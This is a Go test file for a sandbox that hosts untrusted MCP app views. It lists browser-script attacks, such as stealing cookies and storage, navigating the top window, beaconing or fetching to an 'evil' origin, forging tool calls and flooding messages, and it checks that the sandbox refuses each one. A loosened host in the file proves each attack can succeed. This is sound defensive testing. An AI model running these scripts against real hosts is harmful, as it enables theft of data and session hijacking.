package apps_test

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/mcpchain/mcpchain/internal/check"
	"github.com/mcpchain/mcpchain/mcpclient"
	"github.com/mcpchain/mcpchain/mcpclient/apps"
	"github.com/mcpchain/mcpchain/mcpclient/apps/host"
	"github.com/mcpchain/mcpchain/mcpclient/apps/sandbox"
	"github.com/mcpchain/mcpchain/mcpclient/mcp"
)

// attacks are what a hostile view tries, in the order in which one view can try them all. Each is the body of a function of evil,
// a URL of another origin, and of host, the origin of the host's page. It returns what it has got, or "refused". What it reaches
// counts, too, whatever it returns. The last two leave the document, even if they are refused: such a frame may lose what it has
// just said, so they begin when the host has answered all the others.
var attacks = []struct{ name, script string }{
	{"cookie", `return document.cookie || "refused"`},
	{"storage", `return localStorage.getItem("secret") || "refused"`},
	{"host's page", `return top.document.title`},
	{"host's cookie", `return top.document.cookie`},
	{"host's storage", `return top.localStorage.getItem("secret")`},
	{"top.location", `top.location = evil; return "refused"`},
	{"window", `return open(evil) === null ? "refused" : "opened"`},
	{"link", `const a = document.createElement("a"); a.href = evil; a.target = "_blank"; document.body.append(a); a.click(); return "refused"`},
	{"link to the top", `const a = document.createElement("a"); a.href = evil; a.target = "_top"; document.body.append(a); a.click(); return "refused"`},
	{"fetch", `return fetch(evil).then(() => "reached")`},
	{"host's server", `return fetch(host + "/taken", { mode: "no-cors" }).then(() => "reached")`},
	{"host's image", `return new Promise((resolve, reject) => { const i = new Image(); i.onload = () => resolve("reached"); i.onerror = reject; i.src = host + "/taken"; })`},
	{"frame", `const f = document.createElement("iframe"); f.src = evil; document.body.append(f); return "refused"`},
	{"proxy's frame", `const f = parent.document.createElement("iframe"); f.src = evil; parent.document.body.append(f); return "refused"`},
	{"as the proxy", `parent.parent.postMessage({ jsonrpc: "2.0", id: "p", method: "tools/call", params: { name: "one" } }, "*"); return "refused"`},
	{"socket", `return new Promise((resolve, reject) => { const w = new WebSocket(evil.replace("http", "ws")); w.onopen = () => resolve("reached"); w.onerror = reject; })`},
	{"events", `return new Promise((resolve, reject) => { const e = new EventSource(evil); e.onopen = () => resolve("reached"); e.onerror = reject; })`},
	{"beacon", `navigator.sendBeacon(evil, "x"); return "refused"`},
	{"image", `return new Promise((resolve, reject) => { const i = new Image(); i.onload = () => resolve("reached"); i.onerror = reject; i.src = evil; })`},
	{"style", `const s = document.createElement("style"); s.textContent = "body { background: url(" + evil + ") }"; document.head.append(s); getComputedStyle(document.body).backgroundImage; return "refused"`},
	{"script", `return new Promise((resolve, reject) => { const i = document.createElement("script"); i.onload = () => resolve("reached"); i.onerror = reject; i.src = evil; document.body.append(i); })`},
	{"eval", `return eval("'ran'")`},
	{"worker", `return new Promise((resolve, reject) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = () => resolve("ran"); w.onerror = reject; })`},
	{"another tool", `return ask("tools/call", { name: "other" }).then((m) => m.error ? "refused" : "answered")`},
	{"large", `return ask("tools/call", { name: "one", arguments: { x: "x".repeat(5 << 20) } }).then((m) => m.error ? "refused" : "answered")`},
	{"50 MB", `say({ id: "huge", method: "tools/call", params: { name: "one", arguments: { x: "x".repeat(50 << 20) } } }); return ask("ping").then((m) => m.error ? "broken" : "refused")`},
	{"words of the proxy", `for (let i = 0; i < 10; i++) notify("ui/notifications/sandbox-proxy-ready", {}); return "refused"`},
	{"foreign frame, to the proxy", foreign("parent.parent")},
	{"foreign frame, to the host", foreign("top")},
	{"flood", `for (let i = 0; i < 10000; i++) say({ id: "flood" + i, method: "tools/call", params: { name: "many" } }); return "refused"`},
	{"form", `await ask("ping"); const f = document.createElement("form"); f.action = evil; f.method = "post"; document.body.append(f); f.submit(); return "refused"`},
	{"navigation", `location = evil; return "refused"`},
}

// foreign is an attack by a frame in the view, which posts a call to a window. The view waits until it has.
func foreign(to string) string {
	return `const posted = new Promise((resolve) => addEventListener("message", (event) => { if (event.data === "posted") resolve(); }));
		const child = document.createElement("iframe");
		child.srcdoc = "<script>` + to + `.postMessage({ jsonrpc: '2.0', id: 'foreign', method: 'tools/call', params: { name: 'one' } }, '*'); parent.postMessage('posted', '*')</scr" + "ipt>";
		document.body.append(child);
		await posted;
		return "refused"`
}

// hostile is the script of a view that has begun, and tries some of the attacks.
func hostile(evil string, from, to int) string {
	script := `window.hostile = true;
		const host = [...location.ancestorOrigins].at(-1);
		const attempt = async (name, evil, f) => { let out; try { out = await f(evil); } catch (e) { out = "refused"; } report(name, out === undefined ? "nothing" : out); };
	`
	for _, a := range attacks[from:to] {
		script += fmt.Sprintf("await attempt(%q, %q, async (evil) => { %s });\n", a.name, evil+"/"+url.PathEscape(a.name), a.script)
	}
	return script
}

// elsewhere is another origin. It knows which attacks have reached it.
type elsewhere struct {
	url string

	mu      sync.Mutex // guards the field below
	reached map[string]bool
}

func newElsewhere(t *testing.T) *elsewhere {
	t.Helper()
	e := &elsewhere{reached: map[string]bool{}}
	l := listen(t)
	e.url = "http://" + l.Addr().String()
	serve(t, l, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		e.mu.Lock()
		e.reached[strings.TrimPrefix(r.URL.Path, "/")] = true
		e.mu.Unlock()
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	return e
}

func (e *elsewhere) has(attack string) bool {
	e.mu.Lock()
	defer e.mu.Unlock()
	return e.reached[attack]
}

// A hostile view gets nowhere, and the page stays. TestLooseHost knows that each attack can succeed.
func TestHostileView(t *testing.T) {
	evil := newElsewhere(t)
	for name, wild := range map[string]bool{"without an origin": false, "with an origin of its server": true} {
		t.Run(name, func(t *testing.T) {
			opts, said := logs()
			server := &oneTool{}
			s := show(t, document(t, `
				await begin();
				ask("tools/call", { name: "one" }); // the only call that is served
				report("initialize again", await ask("ui/initialize", { protocolVersion: "2026-01-26", appInfo: { name: "other", version: "1" }, appCapabilities: {} }).then((m) => m.error ? "refused" : "answered"));
			`+hostile(evil.url, 0, len(attacks))), server, opts, wild)
			s.ready()
			tried := map[string]bool{}
			for {
				one := next(t, said)
				if one[0] == "notification" || one[0] == "request" { // of its own frame
					continue
				}
				check.That(t, one[1] == `"refused"`, "%s: got %s, want it refused", one[0], one[1])
				tried[one[0]] = true
				if one[0] == "flood" { // the last that stays
					break
				}
			}
			for _, a := range attacks {
				check.That(t, tried[a.name] || a.name == "form" || a.name == "navigation", "%s was not tried", a.name)
			}
			s.await("the view to leave", func() bool {
				_, stays := inFrames[bool](s, "window.hostile ? { is: true } : undefined")
				return !stays
			})
			if !wild { // a frame of another site reports a navigation to no console that is heard
				s.await("the browser to refuse the navigation", func() bool { return strings.Contains(strings.Join(s.errors(), "\n"), "frame-src") })
			}
			s.await("the foreign frames", func() bool { return eval[int](s, "strangers") > 1 })
			got := eval[string](s, `document.title + location.origin + document.cookie + localStorage.getItem("secret")`)
			check.That(t, got == "Host"+s.page+"secret=hosthost", "the page became %s", got)
			check.Equal(t, "the page heard of a proxy", s.proxiesReady(), 1)
			s.await("the flood", func() bool { return server.flooded.Load() > 0 })
			if n := server.called.Load(); n != 1 || server.flooded.Load() > 600 || s.asked.Load() > 0 {
				t.Errorf("got %d calls, want 1, %d of the flood, %d requests to the host", n, server.flooded.Load(), s.asked.Load())
			}
		})
	}
	for _, a := range attacks {
		check.That(t, !evil.has(a.name), "%s has reached another origin", a.name)
	}
}

func (s *shown) proxiesReady() int {
	s.t.Helper()
	return eval[int](s, `heard.filter((m) => m.method === "ui/notifications/sandbox-proxy-ready").length`)
}

// Each attack succeeds at a host that does nothing against it: no policy, no sandbox, the view at the host's own origin, no check
// of who sends a message, no bounds, and a server with each tool. So TestHostileView can fail. A second ui/initialize is missing
// here: TestOfficialHost sees it answered.
func TestLooseHost(t *testing.T) {
	evil := newElsewhere(t)
	for i, a := range attacks {
		t.Run(a.name, func(t *testing.T) {
			opts, said := logs()
			opts.Limits = host.Limits{Incoming: 128 << 20, Rate: 100_000, Requests: 100_000}
			server := &everyTool{}
			s := showLoose(t, document(t, `await begin(); await ask("ping");`+hostile(evil.url, i, i+1)), server, opts)
			s.await("the attack to succeed", func() bool {
				select {
				case one := <-said:
					if one[0] == a.name && one[1] != `"refused"` && one[1] != `"nothing"` {
						return true
					}
				default:
				}
				return evil.has(a.name) || s.asked.Load() > 0 || server.called.Load() > 0 || server.flooded.Load() == 10_000 ||
					a.name == "words of the proxy" && s.proxiesReady() > 1
			})
		})
	}
}

// everyTool is a server with another tool, too.
type everyTool struct{ oneTool }

func (e *everyTool) Tools() []*mcp.Tool {
	return append(e.oneTool.Tools(), &mcp.Tool{Name: "other", InputSchema: json.RawMessage(`{"type":"object"}`)})
}

// showLoose shows a view in a host that does nothing against it.
func showLoose(t *testing.T, view *apps.View, server host.Server, opts *host.Options) *shown {
	t.Helper()
	page := listen(t)
	s := newShown(t, page)
	box := check.Value(sandbox.New(&sandbox.Options{Origin: "http://*.localhost:1", HostOrigins: []string{s.page}}))(t)
	frame := check.Value(box.Frame(view.Meta, sandbox.FrameOptions{}))(t)
	w := httptest.NewRecorder()
	box.ServeHTTP(w, httptest.NewRequest("GET", frame.URL, nil))
	proxy := w.Body.String()
	for _, change := range [][2]string{
		{`frame.setAttribute("sandbox", `, `frame.setAttribute("data-sandbox", `},
		{`event.source === frame.contentWindow && event.origin === view && `, ``},
		{`if (event.source === parent && event.origin === host)`, `if (event.source === parent)`},
		{`most = 20971520`, `most = Infinity`},
		{`const isReserved = (message) => `, `const isReserved = (message) => false && `},
	} {
		check.Require(t, strings.Count(proxy, change[0]) == 1, "the page of the sandbox has changed: it has no %s", change[0])
		proxy = strings.Replace(proxy, change[0], change[1], 1)
	}
	frame.URL, frame.Origin = s.page+"/loose", s.page
	s.begin(page, frame, proxy, view, server, opts)
	return s
}

// document is a view that runs a script.
func document(t *testing.T, script string) *apps.View {
	t.Helper()
	own := check.Value(os.ReadFile("testdata/view.js"))(t)
	return &apps.View{URI: "ui://test/view", HTML: []byte("<!doctype html><title>Test</title><body><p>a view</p><script>" + string(own) + "(async () => {" + script + "})();</script>")}
}

// oneTool is a server with a tool, and one for floods of calls.
type oneTool struct{ called, flooded atomic.Int64 }

func (o *oneTool) Tools() []*mcp.Tool {
	return []*mcp.Tool{{Name: "one", InputSchema: json.RawMessage(`{"type":"object"}`)}, {Name: "many", InputSchema: json.RawMessage(`{"type":"object"}`)}}
}

func (o *oneTool) CallTool(_ context.Context, name string, arguments json.RawMessage, _ ...mcpclient.CallOption) (*mcp.CallToolResult, error) {
	if name == "many" {
		o.flooded.Add(1)
	} else {
		o.called.Add(1)
	}
	return &mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: name + string(arguments)}}}, nil
}

func (o *oneTool) ReadResource(context.Context, string, ...mcpclient.CallOption) (*mcp.ReadResourceResult, error) {
	return &mcp.ReadResourceResult{}, nil
}

// logs are options for a host that hears what the view reports.
func logs() (*host.Options, <-chan [2]string) {
	said := make(chan [2]string, 1000)
	return &host.Options{OnLog: func(m *mcp.LogMessage) { said <- [2]string{m.Logger, string(m.Data)} }}, said
}

func next(t *testing.T, said <-chan [2]string) [2]string {
	t.Helper()
	select {
	case one := <-said:
		return one
	case <-time.After(patience):
		t.Fatal("the view says nothing")
		return [2]string{}
	}
}

// A view begins in the sandbox, is told of its call, calls a tool, changes its size and is torn down.
func TestView(t *testing.T) {
	for name, wild := range map[string]bool{"without an origin": false, "with an origin of its server": true} {
		t.Run(name, func(t *testing.T) {
			opts, said := logs()
			height := make(chan float64, 1)
			opts.OnSize = func(_, h *float64) { height <- *h }
			server := &oneTool{}
			s := show(t, document(t, `
				const answer = await begin();
				report("theme", answer.result.hostContext.theme);
				report("called", await ask("tools/call", { name: "one", arguments: { n: 1 } }));
				notify("ui/notifications/sandbox-resource-ready", { html: "x" });
				notify("ui/notifications/size-changed", { height: 123 });
			`), server, func() *host.Options { opts.Context.Theme = "dark"; return opts }(), wild)
			s.ready()
			check.NoError(t, s.session.ToolInput(json.RawMessage(`{"a":1}`)))
			check.NoError(t, s.session.ToolResult(&mcp.CallToolResult{Content: []mcp.Content{&mcp.TextContent{Text: "r"}}}))
			want := map[[2]string]bool{
				{"theme", `"dark"`}: true,
				{"called", `{"jsonrpc":"2.0","id":2,"result":{"content":[{"type":"text","text":"one{\"n\":1}"}]}}`}:                             true,
				{"notification", `{"jsonrpc":"2.0","method":"ui/notifications/tool-input","params":{"arguments":{"a":1}}}`}:                     true,
				{"notification", `{"jsonrpc":"2.0","method":"ui/notifications/tool-result","params":{"content":[{"type":"text","text":"r"}]}}`}: true,
			}
			for len(want) > 0 {
				one := next(t, said)
				check.Require(t, want[one], "got %q, want one of %v", one, want)
				delete(want, one)
			}
			select {
			case h := <-height:
				check.That(t, h == 123, "got the height %v", h)
			case <-time.After(patience):
				t.Error("the host hears no size")
			}
			ctx, cancel := context.WithTimeout(t.Context(), patience)
			defer cancel()
			check.NoError(t, s.session.Close(ctx, "the end"))
			heard := eval[string](s, `JSON.stringify(heard.map((m) => m.method))`)
			check.That(t, strings.Count(heard, "sandbox-") == 1 && strings.HasPrefix(heard, `["ui/notifications/sandbox-proxy-ready","ui/initialize"`),
				"got the messages %s, want one of the sandbox", heard)
			all := s.errors()
			check.That(t, len(all) == 0, "the console says %q", all)
		})
	}
}

// A view reaches an origin that its server declares, for what it declares it for.
func TestDeclaredOrigin(t *testing.T) {
	var reached atomic.Int64
	api := listen(t)
	serve(t, api, http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		reached.Add(1)
		w.Header().Set("Access-Control-Allow-Origin", "*")
	}))
	opts, said := logs()
	view := document(t, `
		await begin();
		const api = "http://`+api.Addr().String()+`/";
		report("fetch", await fetch(api).then(() => "reached", () => "refused"));
		report("image", await new Promise((resolve) => { const i = new Image(); i.onload = i.onerror = (e) => resolve(e.type); i.src = api; }));
	`)
	view.Meta.CSP.ConnectDomains = []string{"http://" + api.Addr().String()}
	show(t, view, &oneTool{}, opts, false)
	check.Equal(t, "", next(t, said), [2]string{"fetch", `"reached"`})
	got := next(t, said)
	check.That(t, got == [2]string{"image", `"error"`} && reached.Load() == 1, "got %q, reached %d times, want once", got, reached.Load())
}

// What views say on their consoles is heard, wherever Chromium runs them: or the other tests see nothing.
func TestConsoleIsHeard(t *testing.T) {
	for name, wild := range map[string]bool{"without an origin": false, "with an origin of its server": true} {
		t.Run(name, func(t *testing.T) {
			s := show(t, document(t, `await begin(); console.error("loud and clear"); setTimeout(() => { throw new Error("thrown on purpose"); });`), &oneTool{}, nil, wild)
			s.ready()
			for _, text := range []string{"loud and clear", "thrown on purpose"} {
				s.await(text, func() bool { return strings.Contains(strings.Join(s.errors(), "\n"), text) })
			}
		})
	}
}
